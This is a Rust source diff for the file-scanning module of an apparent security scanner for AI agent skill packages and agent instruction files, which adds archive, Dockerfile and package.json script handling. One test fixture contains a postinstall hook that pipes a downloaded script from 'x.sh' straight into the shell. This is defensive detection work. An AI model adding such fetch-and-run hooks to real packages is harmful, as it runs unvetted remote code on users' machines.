@@ -1,3 +1,4 @@
+use crate::archive;
 use std::path::{Path, PathBuf};
 use walkdir::WalkDir;
 
@@ -8,20 +9,85 @@ pub enum FileType {
     Yaml,
     Toml,
     Json,
+    Dockerfile,
     Unknown,
+    /// Derived views of Markdown files (see `transform`); never a file's own
+    /// type.
+    MarkdownFrontmatter,
+    MarkdownCode,
+    MarkdownText,
 }
 
 impl FileType {
     pub fn from_path(path: &Path) -> Self {
+        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
+        if is_container_file(name) {
+            return FileType::Dockerfile;
+        }
+        if TASK_RUNNER_FILES.contains(&name) {
+            return FileType::Script;
+        }
+
         match path.extension().and_then(|e| e.to_str()) {
             Some("md" | "mdx") => FileType::Markdown,
-            Some("sh" | "bash" | "zsh" | "py" | "rb" | "js" | "ts") => FileType::Script,
+            Some("sh" | "bash" | "zsh" | "py" | "rb" | "js" | "ts" | "mk") => FileType::Script,
             Some("yml" | "yaml") => FileType::Yaml,
             Some("toml") => FileType::Toml,
             Some("json") => FileType::Json,
             _ => FileType::Unknown,
         }
     }
+
+    /// Lowercase name, as used in pattern files' `applies_to`.
+    pub fn name(self) -> &'static str {
+        match self {
+            FileType::Markdown => "markdown",
+            FileType::Script => "script",
+            FileType::Yaml => "yaml",
+            FileType::Toml => "toml",
+            FileType::Json => "json",
+            FileType::Dockerfile => "dockerfile",
+            FileType::Unknown => "unknown",
+            FileType::MarkdownFrontmatter => "markdown:frontmatter",
+            FileType::MarkdownCode => "markdown:code-blocks",
+            FileType::MarkdownText => "markdown:text",
+        }
+    }
+
+    /// Whether this is a derived view rather than a file's own type. Rules
+    /// only see views they name in `applies_to`.
+    pub fn is_view(self) -> bool {
+        matches!(
+            self,
+            FileType::MarkdownFrontmatter | FileType::MarkdownCode | FileType::MarkdownText
+        )
+    }
+}
+
+/// Task-runner files whose recipes are shell commands.
+const TASK_RUNNER_FILES: &[&str] = &[
+    "Makefile",
+    "makefile",
+    "GNUmakefile",
+    "justfile",
+    "Justfile",
+    ".justfile",
+];
+
+/// Suffixes that make `Dockerfile.<suffix>` documentation about a Dockerfile.
+const DOC_EXTENSIONS: &[&str] = &["md", "mdx", "txt", "rst", "html"];
+
+/// `Dockerfile`, `Containerfile`, and their `Dockerfile.dev` / `app.dockerfile`
+/// variants, but not `Dockerfile.md`.
+fn is_container_file(name: &str) -> bool {
+    let lower = name.to_lowercase();
+    ["dockerfile", "containerfile"].iter().any(|base| {
+        lower == *base
+            || lower
+                .strip_prefix(&format!("{base}."))
+                .is_some_and(|suffix| !DOC_EXTENSIONS.contains(&suffix))
+            || lower.ends_with(&format!(".{base}"))
+    })
 }
 
 #[derive(Debug, Clone)]
@@ -33,7 +99,48 @@ pub struct ScannedFile {
     pub content: String,
 }
 
-const SKIP_DIRS: &[&str] = &[
+/// A file that was found but not analyzed.
+#[derive(Debug, Clone)]
+pub struct SkippedFile {
+    pub relative_path: PathBuf,
+    pub reason: SkipReason,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SkipReason {
+    /// Not valid UTF-8 text.
+    Binary,
+    /// Larger than `MAX_FILE_SIZE`; holds the size in bytes.
+    TooLarge(u64),
+    Unreadable(String),
+    /// No enabled rule checks this file type.
+    NoApplicableRules,
+}
+
+impl std::fmt::Display for SkipReason {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            SkipReason::Binary => write!(f, "binary or not UTF-8"),
+            SkipReason::TooLarge(size) => {
+                write!(f, "{size} bytes, over the {MAX_FILE_SIZE}-byte limit")
+            }
+            SkipReason::Unreadable(e) => write!(f, "unreadable: {e}"),
+            SkipReason::NoApplicableRules => write!(f, "no enabled rule applies to this file type"),
+        }
+    }
+}
+
+/// Files beyond this size are not read.
+pub const MAX_FILE_SIZE: u64 = 10 * 1024 * 1024;
+
+/// Files read from a target, and those that were found but not read.
+#[derive(Debug, Default)]
+pub struct Scan {
+    pub files: Vec<ScannedFile>,
+    pub skipped: Vec<SkippedFile>,
+}
+
+pub const SKIP_DIRS: &[&str] = &[
     ".git",
     "node_modules",
     ".skill-issue-cache",
@@ -41,15 +148,130 @@ const SKIP_DIRS: &[&str] = &[
     ".venv",
 ];
 
-pub fn scan_directory(root: &Path) -> Result<Vec<ScannedFile>, String> {
+/// Collect the files of a skill directory, or of a skill archive.
+pub fn scan_directory(root: &Path) -> Result<Scan, String> {
     if !root.exists() {
         return Err(format!("path does not exist: {}", root.display()));
     }
+    if root.is_file() && archive::is_archive(root) {
+        return scan_archive(root);
+    }
     if !root.is_dir() {
         return Err(format!("path is not a directory: {}", root.display()));
     }
 
+    walk_files(root, |_| true)
+}
+
+/// Collect one file, named relative to `root` (its skill directory), as a
+/// directory walk would.
+pub fn scan_file(path: &Path, root: &Path) -> Result<Scan, String> {
+    if !path.is_file() {
+        return Err(format!("not a file: {}", path.display()));
+    }
+    let relative_path = path.strip_prefix(root).unwrap_or(path).to_path_buf();
+    let mut scan = Scan::default();
+    match read_file(path) {
+        Ok(content) => scan.files.push(ScannedFile {
+            path: path.to_path_buf(),
+            file_type: FileType::from_path(path),
+            relative_path,
+            content,
+        }),
+        Err(reason) => scan.skipped.push(SkippedFile {
+            relative_path,
+            reason,
+        }),
+    }
+    add_package_script_views(&mut scan.files);
+    Ok(scan)
+}
+
+/// Collect the files in a zip or tar archive without extracting it to disk.
+/// Paths are relative to the archive root; `path` is the archive's path
+/// joined with the entry's.
+pub fn scan_archive(archive_path: &Path) -> Result<Scan, String> {
+    let mut scan = Scan::default();
+    for (relative_path, content) in archive::read_entries(archive_path, archive::Limits::default())?
+    {
+        let skipped_dir = relative_path.components().any(|c| {
+            c.as_os_str()
+                .to_str()
+                .is_some_and(|name| SKIP_DIRS.contains(&name))
+        });
+        if skipped_dir {
+            continue;
+        }
+        match content {
+            Ok(content) => scan.files.push(ScannedFile {
+                path: archive_path.join(&relative_path),
+                file_type: FileType::from_path(&relative_path),
+                relative_path,
+                content,
+            }),
+            Err(reason) => scan.skipped.push(SkippedFile {
+                relative_path,
+                reason,
+            }),
+        }
+    }
+    add_package_script_views(&mut scan.files);
+    Ok(scan)
+}
+
+/// Agent memory/instruction files targeted by `--mode agent-files`.
+pub const AGENT_FILE_NAMES: &[&str] = &[
+    "CLAUDE.md",
+    "CLAUDE.local.md",
+    "AGENTS.md",
+    "GEMINI.md",
+    ".cursorrules",
+];
+
+fn is_agent_file(path: &Path) -> bool {
+    path.file_name()
+        .and_then(|n| n.to_str())
+        .is_some_and(|n| AGENT_FILE_NAMES.contains(&n))
+}
+
+/// Collect agent instruction files. `root` may be a single file or a directory
+/// to search. These files are always prose, so they are treated as Markdown
+/// (`.cursorrules` has no extension to go by).
+pub fn scan_agent_files(root: &Path) -> Result<Scan, String> {
+    if !root.exists() {
+        return Err(format!("path does not exist: {}", root.display()));
+    }
+
+    let mut scan = if root.is_file() {
+        let content =
+            read_file(root).map_err(|e| format!("failed to read {}: {e}", root.display()))?;
+        let relative_path = root
+            .file_name()
+            .map(PathBuf::from)
+            .unwrap_or_else(|| root.to_path_buf());
+        Scan {
+            files: vec![ScannedFile {
+                path: root.to_path_buf(),
+                relative_path,
+                file_type: FileType::Markdown,
+                content,
+            }],
+            skipped: Vec::new(),
+        }
+    } else {
+        walk_files(root, is_agent_file)?
+    };
+
+    for file in &mut scan.files {
+        file.file_type = FileType::Markdown;
+    }
+
+    Ok(scan)
+}
+
+fn walk_files(root: &Path, keep: impl Fn(&Path) -> bool) -> Result<Scan, String> {
     let mut files = Vec::new();
+    let mut skipped = Vec::new();
 
     for entry in WalkDir::new(root)
         .follow_links(false)
@@ -60,7 +282,7 @@ pub fn scan_directory(root: &Path) -> Result<Vec<ScannedFile>, String> {
         })
     {
         let entry = entry.map_err(|e| format!("walk error: {e}"))?;
-        if !entry.file_type().is_file() {
+        if !entry.file_type().is_file() || !keep(entry.path()) {
             continue;
         }
 
@@ -68,9 +290,15 @@ pub fn scan_directory(root: &Path) -> Result<Vec<ScannedFile>, String> {
         let relative_path = path.strip_prefix(root).unwrap_or(&path).to_path_buf();
         let file_type = FileType::from_path(&path);
 
-        let content = match std::fs::read_to_string(&path) {
+        let content = match read_file(&path) {
             Ok(c) => c,
-            Err(_) => continue, // skip binary files
+            Err(reason) => {
+                skipped.push(SkippedFile {
+                    relative_path,
+                    reason,
+                });
+                continue;
+            }
         };
 
         files.push(ScannedFile {
@@ -81,7 +309,191 @@ pub fn scan_directory(root: &Path) -> Result<Vec<ScannedFile>, String> {
         });
     }
 
-    Ok(files)
+    add_package_script_views(&mut files);
+    Ok(Scan { files, skipped })
+}
+
+fn read_file(path: &Path) -> Result<String, SkipReason> {
+    let size = std::fs::metadata(path)
+        .map_err(|e| SkipReason::Unreadable(e.to_string()))?
+        .len();
+    if size > MAX_FILE_SIZE {
+        return Err(SkipReason::TooLarge(size));
+    }
+    let bytes = std::fs::read(path).map_err(|e| SkipReason::Unreadable(e.to_string()))?;
+    decode_text(bytes)
+}
+
+/// File content as text. Windows editors often save UTF-8 with a byte order
+/// mark, which is dropped, or UTF-16 with one, which is decoded. Anything
+/// else that is not UTF-8 is binary.
+pub fn decode_text(bytes: Vec<u8>) -> Result<String, SkipReason> {
+    let utf16 = |bytes: &[u8], from: fn([u8; 2]) -> u16| {
+        if !bytes.len().is_multiple_of(2) {
+            return Err(SkipReason::Binary);
+        }
+        let units: Vec<u16> = bytes
+            .chunks_exact(2)
+            .map(|pair| from([pair[0], pair[1]]))
+            .collect();
+        String::from_utf16(&units).map_err(|_| SkipReason::Binary)
+    };
+    match bytes.as_slice() {
+        [0xEF, 0xBB, 0xBF, rest @ ..] => {
+            String::from_utf8(rest.to_vec()).map_err(|_| SkipReason::Binary)
+        }
+        [0xFF, 0xFE, rest @ ..] => utf16(rest, u16::from_le_bytes),
+        [0xFE, 0xFF, rest @ ..] => utf16(rest, u16::from_be_bytes),
+        _ => String::from_utf8(bytes).map_err(|_| SkipReason::Binary),
+    }
+}
+
+/// File names that mark a skill's root directory unless configured otherwise.
+pub const DEFAULT_SKILL_MARKERS: &[&str] = &["SKILL.md"];
+
+/// Whether `path` names a skill marker file.
+pub fn is_skill_marker(path: &Path, markers: &[String]) -> bool {
+    path.file_name()
+        .and_then(|n| n.to_str())
+        .is_some_and(|n| markers.iter().any(|m| m == n))
+}
+
+/// Skill directories under `root`, sorted: each directory holding a marker
+/// file, leaving out skills nested inside another, whose files the outer
+/// skill's scan covers.
+pub fn discover_skills(root: &Path, markers: &[String]) -> Result<Vec<PathBuf>, String> {
+    let mut dirs = Vec::new();
+    for entry in WalkDir::new(root)
+        .follow_links(false)
+        .into_iter()
+        .filter_entry(|e| {
+            let name = e.file_name().to_str().unwrap_or("");
+            !SKIP_DIRS.contains(&name)
+        })
+    {
+        let entry = entry.map_err(|e| format!("walk error: {e}"))?;
+        if entry.file_type().is_file() && is_skill_marker(entry.path(), markers) {
+            dirs.extend(entry.path().parent().map(Path::to_path_buf));
+        }
+    }
+    dirs.sort();
+    dirs.dedup();
+    let outermost = dirs
+        .iter()
+        .filter(|d| !dirs.iter().any(|o| o != *d && d.starts_with(o)))
+        .cloned()
+        .collect();
+    Ok(outermost)
+}
+
+/// Directories (relative to the target) that contain a skill marker, deepest first.
+pub fn skill_roots(files: &[ScannedFile], markers: &[String]) -> Vec<PathBuf> {
+    let mut roots: Vec<PathBuf> = files
+        .iter()
+        .filter(|f| is_skill_marker(&f.relative_path, markers))
+        .filter_map(|f| f.relative_path.parent().map(Path::to_path_buf))
+        .collect();
+    roots.sort_by(|a, b| {
+        b.components()
+            .count()
+            .cmp(&a.components().count())
+            .then(a.cmp(b))
+    });
+    roots.dedup();
+    roots
+}
+
+/// The innermost skill directory containing `path`.
+pub fn skill_root_for<'a>(path: &Path, roots: &'a [PathBuf]) -> Option<&'a PathBuf> {
+    roots.iter().find(|root| path.starts_with(root))
+}
+
+/// For every `package.json`, add a Script-typed view containing only the lines
+/// of its `scripts` object, so script rules see `postinstall` and friends.
+/// Other lines are blanked rather than removed, keeping line and column
+/// numbers identical to the original file.
+pub fn add_package_script_views(files: &mut Vec<ScannedFile>) {
+    let views: Vec<ScannedFile> = files
+        .iter()
+        .filter(|f| {
+            f.relative_path
+                .file_name()
+                .is_some_and(|n| n == "package.json")
+        })
+        .filter_map(|f| {
+            let content = package_scripts_view(&f.content)?;
+            Some(ScannedFile {
+                path: f.path.clone(),
+                relative_path: f.relative_path.clone(),
+                file_type: FileType::Script,
+                content,
+            })
+        })
+        .collect();
+    files.extend(views);
+}
+
+fn package_scripts_view(content: &str) -> Option<String> {
+    let (start, end) = top_level_object_span(content, "scripts")?;
+    let first_line = content[..start].matches('\n').count();
+    let last_line = content[..end].matches('\n').count();
+
+    let lines: Vec<&str> = content
+        .lines()
+        .enumerate()
+        .map(|(i, line)| {
+            if i >= first_line && i <= last_line {
+                line
+            } else {
+                ""
+            }
+        })
+        .collect();
+    Some(lines.join("\n"))
+}
+
+/// Byte span of the object value for `key` at the top level of a JSON document.
+fn top_level_object_span(content: &str, key: &str) -> Option<(usize, usize)> {
+    let needle = format!("\"{key}\"");
+    let bytes = content.as_bytes();
+    let mut depth = 0usize;
+    let mut in_string = false;
+    let mut escaped = false;
+    let mut span_start = None;
+
+    for (i, &b) in bytes.iter().enumerate() {
+        if in_string {
+            match b {
+                _ if escaped => escaped = false,
+                b'\\' => escaped = true,
+                b'"' => in_string = false,
+                _ => {}
+            }
+            continue;
+        }
+        match b {
+            b'"' => {
+                if depth == 1 && span_start.is_none() && content[i..].starts_with(&needle) {
+                    let after = content[i + needle.len()..].trim_start();
+                    if after.starts_with(':') && after[1..].trim_start().starts_with('{') {
+                        span_start = Some(i);
+                    }
+                }
+                in_string = true;
+            }
+            b'{' => depth += 1,
+            b'}' => {
+                depth = depth.saturating_sub(1);
+                if depth == 1 {
+                    if let Some(start) = span_start {
+                        return Some((start, i));
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+    None
 }
 
 #[cfg(test)]
@@ -105,6 +517,33 @@ mod tests {
         assert_eq!(FileType::from_path(Path::new("foo.toml")), FileType::Toml);
         assert_eq!(FileType::from_path(Path::new("foo.json")), FileType::Json);
         assert_eq!(FileType::from_path(Path::new("foo.txt")), FileType::Unknown);
+        assert_eq!(
+            FileType::from_path(Path::new("Dockerfile")),
+            FileType::Dockerfile
+        );
+        assert_eq!(
+            FileType::from_path(Path::new("docker/Dockerfile.dev")),
+            FileType::Dockerfile
+        );
+        assert_eq!(
+            FileType::from_path(Path::new("Containerfile")),
+            FileType::Dockerfile
+        );
+        assert_eq!(
+            FileType::from_path(Path::new("app.dockerfile")),
+            FileType::Dockerfile
+        );
+        assert_eq!(
+            FileType::from_path(Path::new("Dockerfile.md")),
+            FileType::Markdown
+        );
+        assert_eq!(
+            FileType::from_path(Path::new("Containerfile.txt")),
+            FileType::Unknown
+        );
+        assert_eq!(FileType::from_path(Path::new("Makefile")), FileType::Script);
+        assert_eq!(FileType::from_path(Path::new("justfile")), FileType::Script);
+        assert_eq!(FileType::from_path(Path::new("rules.mk")), FileType::Script);
     }
 
     #[test]
@@ -113,7 +552,7 @@ mod tests {
         fs::write(dir.path().join("test.md"), "# Hello").unwrap();
         fs::write(dir.path().join("test.py"), "print('hi')").unwrap();
 
-        let files = scan_directory(dir.path()).unwrap();
+        let files = scan_directory(dir.path()).unwrap().files;
         assert_eq!(files.len(), 2);
     }
 
@@ -125,14 +564,190 @@ mod tests {
         fs::write(git_dir.join("config"), "data").unwrap();
         fs::write(dir.path().join("test.md"), "# Hello").unwrap();
 
-        let files = scan_directory(dir.path()).unwrap();
+        let files = scan_directory(dir.path()).unwrap().files;
         assert_eq!(files.len(), 1);
         assert_eq!(files[0].relative_path, PathBuf::from("test.md"));
     }
 
+    #[test]
+    fn test_scan_records_binary_files_as_skipped() {
+        let dir = TempDir::new().unwrap();
+        fs::write(
+            dir.path().join("logo.png"),
+            [0x89, b'P', b'N', b'G', 0xff, 0xfe],
+        )
+        .unwrap();
+        fs::write(dir.path().join("SKILL.md"), "# Skill").unwrap();
+
+        let scan = scan_directory(dir.path()).unwrap();
+        assert_eq!(scan.files.len(), 1);
+        assert_eq!(scan.skipped.len(), 1);
+        assert_eq!(scan.skipped[0].relative_path, PathBuf::from("logo.png"));
+        assert_eq!(scan.skipped[0].reason, SkipReason::Binary);
+    }
+
+    #[test]
+    fn test_decode_text_from_windows_editors() {
+        let text = "---\r\nname: pdf\r\n---\r\n";
+        let mut utf8_bom = vec![0xEF, 0xBB, 0xBF];
+        utf8_bom.extend(text.as_bytes());
+        let mut utf16_le = vec![0xFF, 0xFE];
+        utf16_le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
+        let mut utf16_be = vec![0xFE, 0xFF];
+        utf16_be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
+        for bytes in [utf8_bom, utf16_le, utf16_be] {
+            assert_eq!(decode_text(bytes).unwrap(), text);
+        }
+        assert_eq!(decode_text(vec![0xFF, 0xFE, 0x41]), Err(SkipReason::Binary));
+        assert_eq!(decode_text(vec![0x00, 0xFF, 0x80]), Err(SkipReason::Binary));
+    }
+
+    #[test]
+    fn test_discover_skills_outermost_only() {
+        let dir = TempDir::new().unwrap();
+        for path in [
+            "skills/pdf/SKILL.md",
+            "skills/pdf/examples/demo/SKILL.md",
+            "skills/xlsx/SKILL.md",
+            "node_modules/pkg/SKILL.md",
+            "README.md",
+        ] {
+            let path = dir.path().join(path);
+            fs::create_dir_all(path.parent().unwrap()).unwrap();
+            fs::write(path, "# Skill\n").unwrap();
+        }
+        let skills = discover_skills(dir.path(), &["SKILL.md".to_string()]).unwrap();
+        assert_eq!(
+            skills,
+            vec![
+                dir.path().join("skills/pdf"),
+                dir.path().join("skills/xlsx")
+            ]
+        );
+    }
+
+    #[test]
+    fn test_skill_roots_innermost_first() {
+        let file = |p: &str| ScannedFile {
+            path: PathBuf::from(p),
+            relative_path: PathBuf::from(p),
+            file_type: FileType::from_path(Path::new(p)),
+            content: String::new(),
+        };
+        let files = [
+            file("SKILL.md"),
+            file("skills/pdf/SKILL.md"),
+            file("skills/pdf/scripts/x.py"),
+            file("README.md"),
+        ];
+        let roots = skill_roots(&files, &["SKILL.md".to_string()]);
+        assert_eq!(roots, vec![PathBuf::from("skills/pdf"), PathBuf::new()]);
+        assert_eq!(
+            skill_root_for(Path::new("skills/pdf/scripts/x.py"), &roots),
+            Some(&PathBuf::from("skills/pdf"))
+        );
+        assert_eq!(
+            skill_root_for(Path::new("README.md"), &roots),
+            Some(&PathBuf::new())
+        );
+    }
+
+    #[test]
+    fn test_scan_agent_files_directory() {
+        let dir = TempDir::new().unwrap();
+        fs::write(dir.path().join("CLAUDE.md"), "# Memory").unwrap();
+        fs::write(dir.path().join(".cursorrules"), "be nice").unwrap();
+        fs::write(dir.path().join("notes.md"), "# Notes").unwrap();
+        fs::create_dir(dir.path().join("sub")).unwrap();
+        fs::write(dir.path().join("sub").join("AGENTS.md"), "# Agents").unwrap();
+
+        let mut files = scan_agent_files(dir.path()).unwrap().files;
+        files.sort_by(|a, b| a.relative_path.cmp(&b.relative_path));
+        let names: Vec<_> = files.iter().map(|f| f.relative_path.clone()).collect();
+        assert_eq!(
+            names,
+            vec![
+                PathBuf::from(".cursorrules"),
+                PathBuf::from("CLAUDE.md"),
+                PathBuf::from("sub/AGENTS.md"),
+            ]
+        );
+        assert!(files.iter().all(|f| f.file_type == FileType::Markdown));
+    }
+
+    #[test]
+    fn test_scan_agent_files_single_file() {
+        let dir = TempDir::new().unwrap();
+        let file = dir.path().join("GEMINI.md");
+        fs::write(&file, "# Gemini").unwrap();
+
+        let files = scan_agent_files(&file).unwrap().files;
+        assert_eq!(files.len(), 1);
+        assert_eq!(files[0].relative_path, PathBuf::from("GEMINI.md"));
+    }
+
+    #[test]
+    fn test_package_scripts_view() {
+        let content = r#"{
+  "name": "skill",
+  "version": "1.0.0",
+  "scripts": {
+    "postinstall": "curl https://x.sh | sh",
+    "nested": "node -e \"console.log('{')\""
+  },
+  "dependencies": { "left-pad": "1.0.0" }
+}"#;
+        let view = package_scripts_view(content).unwrap();
+        let lines: Vec<&str> = view.lines().collect();
+        assert_eq!(view.split('\n').count(), content.split('\n').count());
+        assert_eq!(lines[1], "");
+        assert_eq!(lines[4], r#"    "postinstall": "curl https://x.sh | sh","#);
+        assert_eq!(lines[6], "  },");
+        assert!(!view.contains("left-pad"));
+    }
+
+    #[test]
+    fn test_package_scripts_view_missing() {
+        assert!(package_scripts_view(r#"{"name": "x"}"#).is_none());
+    }
+
     #[test]
     fn test_scan_nonexistent() {
         let result = scan_directory(Path::new("/nonexistent/path"));
         assert!(result.is_err());
     }
+
+    #[test]
+    fn test_scan_archive_uses_archive_relative_paths() {
+        let dir = TempDir::new().unwrap();
+        let path = dir.path().join("pdf.zip");
+        fs::write(
+            &path,
+            archive::tests::zip(&[
+                ("pdf/SKILL.md", b"# PDF\n"),
+                ("pdf/node_modules/x/index.js", b"x\n"),
+                (
+                    "pdf/package.json",
+                    br#"{"scripts": {"postinstall": "node x"}}"#,
+                ),
+            ]),
+        )
+        .unwrap();
+        let scan = scan_directory(&path).unwrap();
+        let paths: Vec<&Path> = scan
+            .files
+            .iter()
+            .map(|f| f.relative_path.as_path())
+            .collect();
+        assert_eq!(
+            paths,
+            [
+                Path::new("pdf/SKILL.md"),
+                Path::new("pdf/package.json"),
+                Path::new("pdf/package.json"),
+            ]
+        );
+        assert_eq!(scan.files[0].path, path.join("pdf/SKILL.md"));
+        assert_eq!(scan.files[0].file_type, FileType::Markdown);
+    }
 }